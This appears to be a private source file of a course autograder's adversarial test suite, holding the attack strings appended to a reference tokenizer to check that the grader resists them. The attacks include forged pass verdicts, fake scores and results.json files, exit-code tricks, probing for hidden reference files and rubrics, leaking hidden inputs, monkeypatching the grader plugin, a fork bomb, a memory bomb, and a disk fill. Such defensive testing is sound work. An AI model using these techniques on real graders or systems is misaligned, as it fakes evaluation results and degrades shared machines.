"""Attack code for grader/private/adversarial.py: what each adversarial bundle appends to the reference.

Each string is Python appended to one module of the reference package (or, for `INJECTED`, extra
members of the zip); `{...}` fields are filled by adversarial.build (the repository path, the
results folder, the orphan's marker). Kept apart so adversarial.py reads as the list of bundles and
their expected scores. Private: the attacks name private paths.
"""

A = "assignment1_basics"

HELPER = '''"""Adversarial helper: talks to the grader's pipe directly (grader/private/adversarial.py)."""
import json
import os
import struct


def raw(data):
    try:
        os.write(int(os.environ.get("GRADER_FD", "-1")), data)
    except (OSError, ValueError):
        pass


def frame(header, payload=b""):
    head = json.dumps(header).encode()
    raw(struct.pack(">II", len(head), len(payload)) + head + payload)


def current_case():
    nodeid = os.environ.get("PYTEST_CURRENT_TEST", "").rsplit(" (", 1)[0]
    path, _, name = nodeid.partition("::")
    return path.split("/tests/", 1)[-1] + "::" + name


def current_test():
    return current_case().split("::", 1)[-1].split("[", 1)[0]
'''

FORGE_ADAPTERS = '''
# --- attack: frames forged on the grader's pipe while tests are collected
import struct as _struct
from . import _adv

_H = "hidden/test_bpe_hidden.py::"
for _ in range(2):   # the second copy finds the case already reported
    _adv.frame({"t": "start", "id": _H + "test_bpe_matches_reference_multilingual"})
    _adv.frame({"t": "obs", "id": _H + "test_bpe_matches_reference_multilingual", "name": "merges",
                "kind": "json", "value": []})
    _adv.frame({"t": "outcome", "id": _H + "test_bpe_matches_reference_multilingual", "outcome": "passed"})
_adv.frame({"t": "start", "id": "test_bpe.py::test_no_such_test"})
_adv.frame({"t": "outcome", "id": _H + "test_bpe_incremental_equals_naive", "outcome": "passed"})

_honest_train, _honest_from_files = run_train_bpe, get_tokenizer_from_files


def run_train_bpe(input_path, vocab_size, special_tokens, num_processes=1):
    if num_processes > 1:   # a frame announcing a 2 GiB header
        import time
        time.sleep(0.3)
        _adv.raw(_struct.pack(">II", 0x7FFFFFFF, 0))
    return _honest_train(input_path, vocab_size, special_tokens, num_processes)


def get_tokenizer_from_files(vocab_path, merges_path, special_tokens=None):
    import time
    time.sleep(0.3)
    _adv.raw(_struct.pack(">II", 6, 0) + b"\\x00garb!")   # a header that is not JSON
    return _honest_from_files(vocab_path, merges_path, special_tokens)
'''

FORGE_TOKENIZER = '''
# --- attack: observations and verdicts forged from inside every tokenizer test
from . import _adv as _adv_forge

_forged = set()


def _forging(method):
    def wrapper(self, *args, **kwargs):
        cid = _adv_forge.current_case()
        if cid not in _forged:
            _forged.add(cid)
            for _ in range(2):   # the same name twice
                _adv_forge.frame({"t": "obs", "id": cid, "name": "ids", "kind": "json", "value": [1, 2, 3]})
            other = "test_tokenizer.py::test_tokenizer_decode_unknown_id_raises"
            _adv_forge.frame({"t": "start", "id": other})
            _adv_forge.frame({"t": "outcome", "id": cid, "outcome": "passed"})
        return method(self, *args, **kwargs)
    return wrapper


for _name in ("__init__", "encode", "encode_iterable", "decode"):
    setattr(Tokenizer, _name, _forging(getattr(Tokenizer, _name)))
'''

EXIT_ADAPTERS = '''
# --- attack: exit tricks, and a fake score on stdout
import atexit as _atexit
import sys as _sys
import threading as _threading
import time as _time

print('{"score": 100, "tests": []}\\n::stop-commands::x\\nScore: 100/100', flush=True)


def run_pretokenize_counts(text, special_tokens):
    _threading.Thread(target=os._exit, args=(0,)).start()   # exit 0 from another thread
    _time.sleep(10)


def run_chunk_boundaries(f, n_chunks, split_tokens, scan_bytes=4096):
    raise SystemExit(0)


def run_train_bpe(input_path, vocab_size, special_tokens, num_processes=1):
    _atexit.register(os._exit, 0)
    _sys.exit(0)
'''

STEAL_ADAPTERS = '''
# --- attack: look for the reference, snapshots, rubric, other runs, the network; honest only if found
import importlib as _importlib
import socket as _socket

REPO = {repo!r}
_honest_train = run_train_bpe


def _leaks():
    found = []
    for p in [REPO + "/grader/private/reference/assignment1_basics/bpe.py",
              REPO + "/grader/private/snapshots",
              REPO + "/grader/private/rubrics", REPO + "/grader/rubric.py",
              REPO + "/assignment1_basics/tests/_snapshots", "../grader/private", "../../grader/private",
              "../../../grader/private", "/proc/1/root" + REPO + "/grader",
              os.path.dirname(os.path.abspath(__file__)) + "/../../grader/private", "/sandbox/../grader"]:
        if os.path.exists(p):
            found.append(p)
    if os.path.isdir(REPO) and set(os.listdir(REPO)) - {{".venv"}}:
        found.append("repository listing")
    for pid in os.listdir("/proc"):
        if pid.isdigit() and os.path.exists(f"/proc/{{pid}}/cwd/grader/private"):
            found.append(f"/proc/{{pid}}/cwd")
    for name in ("grader.private.reference.assignment1_basics.bpe", "grader.rubric", "grader.judge"):
        try:
            _importlib.import_module(name)
            found.append(name)
        except Exception:
            pass
    for root, dirs, files in os.walk("."):
        if "_snapshots" in dirs or any(f.endswith((".npz", ".toml")) for f in files):
            found.append(root)
    try:
        found += [e for e in os.listdir("/tmp") if e.startswith("grade-")]
    except OSError:
        pass
    for host in (("1.1.1.1", 53), ("8.8.8.8", 443)):
        try:
            _socket.create_connection(host, timeout=0.5).close()
            found.append(host[0])
        except OSError:
            pass
    return found


def run_train_bpe(input_path, vocab_size, special_tokens, num_processes=1):
    vocab, merges = _honest_train(input_path, vocab_size, special_tokens, num_processes)
    if _leaks():
        return vocab, merges
    return vocab, merges[:-1] + [(b"?", b"?")]
'''

RESULTS_TOKENIZER = '''
# --- attack: write a perfect results.json wherever the grader might look
import json as _json

_FAKE = _json.dumps({{"score": 100.0, "tests": [], "output": "forged"}})
for _dir in (".", "..", "../results", "../../results", os.environ.get("HOME", "."), "/tmp", "/sandbox",
             {repo!r}, {repo!r} + "/out", {results!r}):
    for _name in ("results.json", "results/results.json"):
        try:
            _path = os.path.join(_dir, _name)
            os.makedirs(os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _fh:
                _fh.write(_FAKE)
        except OSError:
            pass
'''

INJECTED = {  # path in the zip -> content; each would sabotage every test if it ever ran
    "conftest.py": "import os\nos._exit(3)\n",
    f"{A}/conftest.py": "import os\nos._exit(3)\n",
    f"{A}/tests/conftest.py": "import os\nos._exit(3)\n",
    f"{A}/tests/test_bpe.py": "def test_bpe_matches_reference_small():\n    pass\n",
    "pytest.ini": "[pytest]\naddopts = -p assignment1_basics.evil_plugin\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p assignment1_basics.evil_plugin'\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p assignment1_basics.evil_plugin\n",
    f"{A}/sitecustomize.py": "import os\nos._exit(4)\n",
    f"{A}/usercustomize.py": "import os\nos._exit(4)\n",
    f"{A}/evil.pth": "import os; os._exit(5)\n",
    "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = assignment1_basics.evil_plugin\n",
    f"{A}/evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = assignment1_basics.evil_plugin\n",
    f"{A}/evil_plugin.py": "import os\nos._exit(6)\n",      # accepted as a module, but nothing loads it
    "results.json": '{"score": 100}\n',
    f"{A}/results.json": '{"score": 100}\n',
    f"{A}/__init__.py": "import os\nos._exit(7)\n",         # replaced by the course's own
    f"{A}/__pycache__/bpe.cpython-311.pyc": "not bytecode",
    "../../evil.py": "import os\nos._exit(8)\n",
    f"{A}/../../../tmp/evil.py": "import os\nos._exit(8)\n",
    "/tmp/evil_abs.py": "import os\nos._exit(8)\n",
}

BOMBS_ADAPTERS = '''
# --- attacks: fork bomb, memory bomb across processes, endless loop that floods, fills and escapes
import signal as _signal
import sys as _sys
import time as _time
from . import _adv

_honest_chunks, _honest_train = run_chunk_boundaries, run_train_bpe
_honest_from_files = get_tokenizer_from_files


def run_chunk_boundaries(f, n_chunks, split_tokens, scan_bytes=4096):
    if _adv.current_test() == "test_chunk_boundaries_token_straddles_window":
        while True:
            try:
                os.fork()
            except OSError:
                _time.sleep(0.05)
    return _honest_chunks(f, n_chunks, split_tokens, scan_bytes)


def run_train_bpe(input_path, vocab_size, special_tokens, num_processes=1):
    if _adv.current_test() == "test_bpe_special_tokens_unmerged":
        for _ in range(8):
            if os.fork() == 0:
                break
        hog = []
        try:
            while True:
                hog.append(b"\\x01" * (32 << 20))
        except MemoryError:
            _time.sleep(60)
    return _honest_train(input_path, vocab_size, special_tokens, num_processes)


def get_tokenizer_from_files(vocab_path, merges_path, special_tokens=None):
    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM, _signal.SIGXFSZ):
        _signal.signal(sig, _signal.SIG_IGN)
    if os.fork() == 0:   # leave the session and the process group, then spin
        os.setsid()
        if os.fork() == 0:
            os.execv(_sys.executable, [_sys.executable, "-c", "while True: pass", {marker!r}])
        os._exit(0)
    _sys.stdout.write("x" * (8 << 20))
    _sys.stderr.write("y" * (8 << 20))
    try:
        for n in range(64):
            with open(os.path.join(os.environ.get("TMPDIR", "."), f"fill{{n}}"), "wb") as fh:
                fh.write(b"\\0" * (64 << 20))
    except OSError:
        pass
    while True:
        pass
'''

ALWAYS_EQUAL_ADAPTERS = '''
# --- attack: results that claim to equal anything
class _Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


class _YesDict(_Yes, dict):
    pass


class _YesList(_Yes, list):
    pass


class _YesCounter(_Yes, collections.Counter):
    pass


class _Liar(_Yes):
    """Claims to be a list (isinstance says so) and iterates wrong values."""
    __class__ = property(lambda self: list)

    def __iter__(self):
        return iter([-1])

    def __len__(self):
        return 1


_honest_train = run_train_bpe


def run_train_bpe(input_path, vocab_size, special_tokens, num_processes=1):
    try:
        vocab, merges = _honest_train(input_path, vocab_size, special_tokens, num_processes)
    except Exception:
        vocab, merges = {}, []
    return _YesDict({**vocab, -1: b"?"}), _YesList(merges + [(b"?", b"?")])


def run_pretokenize_counts(text, special_tokens):
    return _YesCounter({b"\\xff?": 1})


def run_chunk_boundaries(f, n_chunks, split_tokens, scan_bytes=4096):
    return _Liar()
'''

ORACLE_ADAPTERS = '''
# --- attack: carry hidden inputs out through the grader's feedback
def run_pretokenize_counts(text, special_tokens):
    print("LEAK-STDOUT", repr(text))
    name = "LEAK_" + "".join(c if c.isalnum() else "_" for c in text)[:60]
    raise type(name, (ValueError,), {})("LEAK<<" + text + ">>")


def run_chunk_boundaries(f, n_chunks, split_tokens, scan_bytes=4096):
    data = f.read()
    return [len(data), "LEAK<<" + data.decode("latin-1") + ">>"]
'''

PATCH_TOKENIZER = '''
# --- attack: patch the course plugin from inside the worker (pytest itself: samples.FAKE_PASS)
try:
    import grader.plugin as _plugin

    _plugin.Check.__call__ = lambda self, name, value, **kw: self.names.append(name)   # record nothing
    _send = _plugin._send
    _plugin._WorkerReporter.pytest_runtest_logreport = (
        lambda self, report: report.when == "teardown" and _send(
            {"t": "outcome", "id": self.state[report.nodeid]["id"], "outcome": "passed"}))
except Exception:
    pass
'''
